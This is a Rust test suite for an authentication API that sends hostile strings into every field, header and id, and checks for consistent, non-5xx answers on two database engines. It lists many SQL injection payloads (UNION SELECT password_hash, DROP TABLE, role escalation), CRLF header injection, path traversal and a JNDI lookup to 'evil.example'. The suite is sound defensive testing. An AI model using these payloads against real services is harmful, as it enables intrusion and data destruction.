//! What only an attacker sends: text that no person types (REG-11), SQL where names belong (HTTP-12), requests
//! that are never waited for. Nothing is a 5xx, nothing means anything else on the other engine, nothing is lost.

use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};

use crate::app::{Answer, Builder, Engine, PASSWORD, TestApp, long};

/// Every string field of every endpoint: method, path, body with `#` where the string goes, whether a token is
/// shown, and whether an admitted string costs a hash.
const FIELDS: &[(&str, &str, &str, bool, bool)] = &[
    (
        "POST",
        "/auth/register",
        r#"{"email":#,"password":"correct-horse-battery-9"}"#,
        false,
        true,
    ),
    (
        "POST",
        "/auth/register",
        r#"{"email":"@UNIQUE@","password":#}"#,
        false,
        true,
    ),
    (
        "POST",
        "/auth/register",
        r#"{"email":"@UNIQUE@","password":"correct-horse-battery-9","full_name":#}"#,
        false,
        true,
    ),
    (
        "POST",
        "/auth/login",
        r#"{"email":#,"password":"x"}"#,
        false,
        true,
    ),
    (
        "POST",
        "/auth/login",
        r#"{"email":"ada@example.com","password":#}"#,
        false,
        true,
    ),
    ("POST", "/auth/refresh", r#"{"refresh_token":#}"#, false, false),
    ("POST", "/auth/logout", r#"{"refresh_token":#}"#, false, false),
    ("PATCH", "/auth/me", r#"{"full_name":#}"#, true, false),
    ("DELETE", "/auth/me", r#"{"password":#}"#, true, true),
    (
        "POST",
        "/auth/change-email",
        r#"{"password":#,"new_email":"new@example.com"}"#,
        true,
        true,
    ),
    (
        "POST",
        "/auth/change-email",
        r#"{"password":"x","new_email":#}"#,
        true,
        true,
    ),
    (
        "POST",
        "/auth/change-password",
        r#"{"current_password":#,"new_password":"another-pass-phrase-7"}"#,
        true,
        true,
    ),
    (
        "POST",
        "/auth/change-password",
        r#"{"current_password":"x","new_password":#}"#,
        true,
        true,
    ),
    ("POST", "/auth/verify-email", r#"{"token":#}"#, false, false),
    (
        "POST",
        "/auth/resend-verification",
        r#"{"email":#}"#,
        false,
        false,
    ),
    (
        "POST",
        "/auth/password-reset/request",
        r#"{"email":#}"#,
        false,
        false,
    ),
    (
        "POST",
        "/auth/password-reset/verify",
        r#"{"token":#}"#,
        false,
        false,
    ),
    (
        "POST",
        "/auth/password-reset/confirm",
        r#"{"token":#,"new_password":"another-pass-phrase-7"}"#,
        false,
        true,
    ),
    (
        "POST",
        "/auth/password-reset/confirm",
        r#"{"token":"x","new_password":#}"#,
        false,
        true,
    ),
];

fn quiet(engine: Engine) -> Builder {
    TestApp::on(engine).set("PUBLIC_URL", "https://auth.example.com")
}

/// Sends `literal`, a JSON value as it stands, in one field.
async fn send(app: &TestApp, field: usize, literal: &[u8], number: usize, token: &Value) -> Answer {
    let (method, path, body, signed_in, _) = FIELDS[field];
    let body = body.replace("@UNIQUE@", &format!("u{field}-{number}@example.com"));
    let (before, after) = body.split_once('#').unwrap();
    let body = [before.as_bytes(), literal, after.as_bytes()].concat();
    let method = Method::from_bytes(method.as_bytes()).unwrap();
    let request = app
        .request(method, path)
        .header("content-type", "application/json")
        .raw(body);
    if signed_in {
        request.bearer(token).await
    } else {
        request.await
    }
}

/// Status and body but for ids and times.
fn comparable(answer: &Answer) -> (u16, Value) {
    let mut body = answer.body.clone();
    if let Some(members) = body.as_object_mut() {
        for name in ["request_id", "id", "created_at", "last_login_at"] {
            members.remove(name);
        }
    }
    (answer.status, body)
}

/// Text that nobody types, as JSON literals. The first part is refused wherever people's text belongs.
fn unprintable() -> (Vec<Vec<u8>>, Vec<Vec<u8>>) {
    let refused = [
        r#""\u0000""#,
        r#""a\u0000b@example.com""#,
        r#""correct-horse\u0000battery-9""#,
        r#""\ud800""#,
        r#""\udfff""#,
        r#""ab\ud83dcd""#,
        r#""\udc00\ud800""#,
        r#""\uffff""#,
        r#""a\ufffeb""#,
        r#""correct-horse\ufdd0battery""#,
        r#""\ud83f\udfff""#,
        r#""\udbff\udfff x""#,
        r#""\u00zz""#,
        r#""\x41""#,
        "\"a\nb\"",
        "'a'",
        "NaN",
        "7",
        "true",
        r#"{"$ne":null}"#,
        r#"["a"]"#,
    ];
    let odd = [
        r#""""#,
        r#"" ""#,
        r#""a@b@c@example.com""#,
        r#""\u202eada@example.com""#,
        r#""ada\u200d@example.com""#,
        r#""👩\u200d👧\u200d👦 \u202eabc""#,
        r#""\ufeffada@example.com""#,
        r#""ada@example.com\r\nBcc: x@example.com""#,
        r#""ada@example.com%0d%0aBcc:x@example.com""#,
        r#""\u001b[31mred\u0007""#,
        r#""\u007f\u0085\u2028""#,
        r#""\"ada lovelace\"@example.com""#,
        r#""ada@[127.0.0.1]""#,
        r#""ada@[IPv6:::1]""#,
        r#""ada@localhost""#,
        r#""аdа@example.com""#,
        r#""ada@exаmple.com""#,
        r#""ada@еxample.com""#,
        r#""ADA@EXAMPLE.COM""#,
        r#""ﬀ@example.com""#,
        r#""ada@xn--.com""#,
        r#""ada@xn--a.com""#,
        r#""@""#,
        r#""ada@""#,
        r#""ada@.com""#,
        r#""\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00\ud83d\ude00""#,
        r#""Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢""#,
        r#""../../etc/passwd""#,
        r#""${jndi:ldap://evil.example/a}""#,
        r#""{{7*7}}<script>""#,
        r#""%s%n%x""#,
        "null",
    ];
    let mut refused: Vec<Vec<u8>> = refused
        .iter()
        .map(|literal| literal.as_bytes().to_vec())
        .collect();
    let long = |text: String| serde_json::to_vec(&text).unwrap();
    refused.extend([
        b"\"\xff\xfe\"".to_vec(),
        b"\"\xc0\x80\"".to_vec(),
        b"\"\xed\xa0\x80\"".to_vec(),
        long("x".repeat(4097)),
        long("😀".repeat(2000)),
    ]);
    let mut odd: Vec<Vec<u8>> = odd.iter().map(|literal| literal.as_bytes().to_vec()).collect();
    odd.extend([
        long(format!("{}@example.com", "a".repeat(308))),
        long(format!("ada@{}com", "a.".repeat(64))),
        long(format!("ada@{}", ".".repeat(64))),
        long(format!("ada@{}.com", "a".repeat(64))),
        long(format!("{}@example.com", "a".repeat(65))),
        long("e\u{301}".repeat(100)),
    ]);
    (refused, odd)
}

/// REG-11: each hostile string in each string field, on both engines: the same answer, and never a 5xx.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_gets_the_same_answer_on_both_engines() {
    let (sqlite, postgres) = (
        quiet(Engine::Sqlite).start().await,
        quiet(Engine::Postgres).start().await,
    );
    let mut tokens = Vec::new();
    for app in [&sqlite, &postgres] {
        tokens.push(app.signed_up("ada@example.com").await["access_token"].clone());
    }
    let (refused, odd) = unprintable();
    for (field, row) in FIELDS.iter().enumerate() {
        let takes_token = row.2.contains("token\":#");
        for (number, literal) in refused.iter().chain(&odd).enumerate() {
            let (one, other) = tokio::join!(
                send(&sqlite, field, literal, number, &tokens[0]),
                send(&postgres, field, literal, number, &tokens[1]),
            );
            let sent = String::from_utf8_lossy(literal);
            assert_eq!(comparable(&one), comparable(&other), "{row:?} {sent}");
            assert!(one.status < 500, "{row:?} {sent}: {}", one.text);
            if number < refused.len() && !takes_token {
                assert!(
                    [400, 413, 422].contains(&one.status),
                    "{row:?} {sent}: {}",
                    one.text
                );
            }
            // A wrong password is pointed at by the name that the contract gives it, not by its field's.
            if one.status == 422 && one.body["errors"][0]["code"] != "wrong_password" {
                let pointer = one.body["errors"][0]["pointer"].as_str().unwrap();
                assert!(
                    row.2
                        .contains(&format!("\"{}\":", pointer.trim_start_matches('/'))),
                    "{row:?} {pointer}"
                );
            }
            if one.status >= 400 {
                one.expect_problem(other.status, other.body["code"].as_str().unwrap());
            }
        }
    }
    for app in [&sqlite, &postgres] {
        app.logged_in("ada@example.com", PASSWORD).await;
    }
}

/// A token with NUL in it, or a long one, is a bad token like any other (contract, section 3, 3.3 and 3.4).
#[tokio::test]
async fn a_token_of_hostile_text_is_a_bad_token() {
    let app = quiet(Engine::Sqlite).start().await;
    for token in [
        "",
        "\u{0}",
        "\u{ffff}",
        "a\u{0}b",
        "é",
        "' OR 1=1 --",
        &"A".repeat(43),
        &"A".repeat(1025),
        &"A".repeat(8000),
    ] {
        let body = json!({"token": token, "new_password": "another-pass-phrase-7"});
        let preview = app
            .post("/auth/password-reset/verify", body.clone())
            .await
            .expect(200)
            .body;
        assert_eq!(preview["valid"], false);
        app.post("/auth/password-reset/confirm", body.clone())
            .await
            .expect_problem(400, "invalid_reset_token");
        app.post("/auth/verify-email", body)
            .await
            .expect_problem(400, "invalid_verification_token");
        let refresh = app.post("/auth/refresh", json!({"refresh_token": token}));
        refresh.await.expect_problem(401, "invalid_refresh_token");
    }
}

/// HTTP-12's strings: ways to break out of a text, times what is tried behind them.
fn injections() -> Vec<String> {
    let breaks = [
        "'",
        "\"",
        "')",
        "'))",
        "\\'",
        "';",
        "%27",
        "1",
        "$1",
        "''",
        "`",
        "ada@example.com'",
        "x' ",
        "\u{2019}",
    ];
    let then = [
        " OR 1=1 --",
        " OR '1'='1",
        " OR ''='",
        " AND 1=0 UNION SELECT password_hash FROM users --",
        "; DROP TABLE users; --",
        "; UPDATE users SET role='admin'; --",
        " UNION ALL SELECT NULL,NULL,NULL,NULL --",
        "; SELECT pg_sleep(5); --",
        " AND (SELECT count(*) FROM pg_class a, pg_class b, pg_class c) > 0 --",
        "||(SELECT randomblob(1000000000))||",
        " ORDER BY 100 --",
        " LIMIT 1 OFFSET 1 --",
        "/**/OR/**/1=1#",
        "; ATTACH DATABASE 'x' AS x; --",
        " GLOB '*' --",
        " LIKE '%",
    ];
    let mut all: Vec<String> = breaks
        .iter()
        .flat_map(|open| then.iter().map(move |rest| format!("{open}{rest}")))
        .collect();
    // These are addresses, so they get as far as the database.
    for local in [
        "'or'1'='1",
        "'",
        "'--",
        "x'||'x",
        "%",
        "_",
        "*",
        "a'/*",
        "`'`",
        "?1",
        "$1",
        "{1}",
        "'='",
        "%%",
    ] {
        all.push(format!("{local}@example.com"));
    }
    all
}

on_both_engines! {
    /// HTTP-12: in each field, id and header.
    async fn sql_in_any_place_is_text(engine: Engine) {
        let app = quiet(engine).start().await;
        let ada = app.signed_up("ada@example.com").await;
        let eve = app.signed_up("eve@example.com").await;
        let token = &ada["access_token"];
        let strings = injections();
        assert!(strings.len() >= 200, "{}", strings.len());
        let hashed = FIELDS.iter().filter(|field| field.4).count();
        for (number, string) in strings.iter().enumerate() {
            let literal = serde_json::to_vec(string).unwrap();
            for (field, &(_, path, body, _, costs_hash)) in FIELDS.iter().enumerate() {
                // A hash a string and field is for the long run; here the fields take turns.
                if costs_hash && !long() && number % hashed != field % hashed {
                    continue;
                }
                let answer = send(&app, field, &literal, number, token).await;
                assert!(answer.status < 500, "{path} {body} {string}: {}", answer.text);
                if path.ends_with("/login") || path.ends_with("/refresh") {
                    assert!(answer.status >= 400, "{path} {string}");
                }
                if path.ends_with("/me") && body.contains("full_name") && answer.status == 200 {
                    assert_eq!(answer.body["full_name"].as_str(), Some(string.trim()));
                }
            }
            let encoded = percent_encoded(string);
            app.delete(&format!("/auth/sessions/{encoded}")).bearer(token).await.expect_problem(404, "not_found");
            app.get(&format!("/auth/sessions?id={encoded}&cursor={encoded}")).bearer(token).await.expect(200);
            let text: String = string.chars().filter(char::is_ascii).collect();
            for name in ["user-agent", "x-forwarded-for", "x-request-id", "accept-language", "cookie", "origin"] {
                app.get("/auth/me").bearer(token).header(name, &text).await.expect(200);
            }
            let bearer = app.get("/auth/me").header("authorization", &format!("Bearer {text}"));
            bearer.await.expect_problem(401, "token_invalid");
        }
        // The strings get into the sessions' own rows too.
        for string in strings.iter().step_by(37) {
            let agent: String = string.chars().filter(char::is_ascii).collect();
            app.post("/auth/login", json!({"email": "ada@example.com", "password": PASSWORD}))
                .header("user-agent", &agent)
                .await
                .expect(200);
        }
        // Nothing has changed for either of them.
        let me = app.get("/auth/me").bearer(&eve["access_token"]).await.expect(200).body;
        assert_eq!((&me["role"], &me["email"], &me["full_name"]), (&json!("user"), &json!("eve@example.com"), &Value::Null));
        assert_eq!(app.get("/auth/me").bearer(token).await.expect(200).body["role"], "user");
        app.logged_in("ada@example.com", PASSWORD).await;
        app.logged_in("eve@example.com", PASSWORD).await;
        assert_eq!(app.get("/auth/sessions").bearer(&eve["access_token"]).await.expect(200).body.as_array().unwrap().len(), 2);
    }
}

fn percent_encoded(text: &str) -> String {
    text.bytes()
        .fold(String::new(), |encoded, byte| format!("{encoded}%{byte:02X}"))
}

on_both_engines! {
    /// Clients that go away in the middle of a request leave nothing half done: no stuck transaction, no lost
    /// connection of the pool, no account without a password.
    async fn clients_that_hang_up_leave_nothing_half_done(engine: Engine) {
        let app = quiet(engine).start().await;
        let rounds: u32 = if long() { 1000 } else { 150 };
        let ada = app.signed_up("ada@example.com").await;
        let token = ada["access_token"].as_str().unwrap().to_owned();
        for round in 0..rounds {
            let body = json!({
                "email": format!("u{round}@example.com"), "password": PASSWORD, "full_name": format!("N{round}"),
                "refresh_token": "x", "token": "x", "new_password": "y",
            })
            .to_string();
            let path = ["register", "login", "refresh", "password-reset/request", "me", "change-password"][round as usize % 6];
            let method = if path == "me" { "PATCH" } else { "POST" };
            let head = format!(
                "{method} /api/v1/auth/{path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n\
                 content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            );
            let mut stream = tokio::net::TcpStream::connect(app.address).await.unwrap();
            tokio::io::AsyncWriteExt::write_all(&mut stream, head.as_bytes()).await.unwrap();
            // Anywhere between the first byte and the answer.
            tokio::time::sleep(Duration::from_micros(u64::from(round % 50) * 700)).await;
            drop(stream);
        }
        // All that was begun is over, and every connection of the pool still works, many times over.
        // As many at once as the pool has connections, so that each of them is asked.
        for round in 0..8 {
            let registrations = (0..5).map(|n| {
                let email = format!("after{round}-{n}@example.com");
                app.post("/auth/register", json!({"email": email, "password": PASSWORD})).send()
            });
            for answer in futures_util::future::join_all(registrations).await {
                answer.expect(201);
            }
        }
        app.get("/auth/me").bearer(&json!(token)).await.expect(200);
        // Who was registered at all can log in.
        for round in (0..rounds).step_by(6) {
            let login = json!({"email": format!("u{round}@example.com"), "password": PASSWORD});
            let again = json!({"email": format!("u{round}@example.com"), "password": PASSWORD});
            let registered = app.post("/auth/register", again).await.status == 409;
            assert!(registered || app.post("/auth/login", login.clone()).await.status == 200);
            app.post("/auth/login", login).await.expect(200);
        }
    }
}
